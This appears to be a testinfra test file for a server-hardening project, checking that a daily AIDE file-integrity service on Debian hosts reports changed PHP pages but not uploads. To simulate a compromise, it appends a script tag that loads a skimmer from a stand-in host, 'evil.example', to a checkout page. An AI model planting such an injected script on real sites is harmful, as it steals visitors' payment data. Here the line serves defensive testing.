# Copyright: vps-baseline contributors
# SPDX-License-Identifier: MIT
"""FIM-01 / FIM-02 (issue #12 part 2) on the Debian 12 and 13 cloud hosts converged over SSH by
site.yml, with `docroot_web_writable: [uploads]` in the scenario's inventory: the daily check's
service, started as its timer starts it, reports by path a page changed by root and a page
changed by the web server user, not a file uploaded into uploads/, and is quiet again after
`vps-integrity accept`. The hosts are observed as root over docker exec; the files this test
makes are removed and accepted again at the end (test_operator.py's audit expects no drift)."""

import shlex
import time

import pytest

testinfra_hosts = ["docker://op-debian12", "docker://op-debian13"]

DOCROOT = "/var/www/html"
PAGE = f"{DOCROOT}/checkout.php"  # root's
WEB_PAGE = f"{DOCROOT}/cache.php"  # the web server user's (a page it can write)
UPLOADS = f"{DOCROOT}/uploads"
SERVICE = "vps-integrity-check.service"
CONF = "/etc/aide/vps-baseline.conf"
DB = "/var/lib/aide/vps-baseline/aide.db"
# DR-05's watcher gives files created in the docroot their mode at once: let it act before a check.
SETTLE = 1


def check(host):
    """Start the check as the timer does; its exit status and its journal lines, by invocation."""
    started = host.run(f"systemctl start {SERVICE}")
    invocation = host.check_output(f"systemctl show --property=InvocationID --value {SERVICE}")
    assert invocation, started.stderr
    journal = host.check_output(f"journalctl --no-pager --output=cat _SYSTEMD_INVOCATION_ID={invocation}")
    status = host.check_output(f"systemctl show --property=ExecMainStatus --value {SERVICE}")
    return int(status), journal


@pytest.fixture
def site_files(host):
    """A root page, a page the web server owns, the uploads place; accepted as the deploy."""
    host.run_expect([0], f"printf '<?php echo 1;\\n' > {PAGE}; chmod 0664 {PAGE}")
    host.run_expect([0], f"install -o www-data -g workgroup -m 0664 /dev/null {WEB_PAGE}")
    host.run_expect([0], f"install -d -o www-data -g workgroup -m 2775 {UPLOADS}")
    time.sleep(SETTLE)
    host.run_expect([0], "/usr/local/sbin/vps-integrity accept")
    yield
    host.run_expect([0], f"rm -rf {PAGE} {WEB_PAGE} {UPLOADS}")
    time.sleep(SETTLE)
    host.run_expect([0], "/usr/local/sbin/vps-integrity accept")


def test_fim_page_changes_reported_uploads_not_accept_quiets(host, site_files):
    # Root's and the web server's files: the project's configuration and database are root's
    # 0600, and the web server user can neither read the configuration nor replace the database.
    for path in (CONF, DB):
        f = host.file(path)
        assert (f.user, f.group, f.mode) == ("root", "root", 0o600), path
    assert host.run(f"runuser -u www-data -- cat {CONF}").rc != 0
    assert host.run(f"runuser -u www-data -- sh -c ': > {DB}'").rc != 0
    assert host.service("vps-integrity-check.timer").is_enabled

    status, journal = check(host)
    assert status == 0, journal
    assert "no changes" in journal

    host.run_expect([0], f"printf '<script src=//evil.example/skim.js></script>\\n' >> {PAGE}")
    host.run_expect([0], f"runuser -u www-data -- sh -c {shlex.quote(f'echo rewritten >> {WEB_PAGE}')}")
    host.run_expect([0], f"runuser -u www-data -- sh -c {shlex.quote(f'echo jpeg > {UPLOADS}/photo.jpg')}")
    time.sleep(SETTLE)

    status, journal = check(host)
    findings = journal.splitlines()[0]
    assert status in range(1, 8), journal
    assert findings.startswith("FINDINGS"), journal
    assert PAGE in findings.split() and WEB_PAGE in findings.split(), journal
    assert "uploads" not in journal, journal

    accepted = host.run_expect([0], "/usr/local/sbin/vps-integrity accept")
    assert PAGE in accepted.stdout and WEB_PAGE in accepted.stdout
    status, journal = check(host)
    assert status == 0, journal
    assert "no changes" in journal
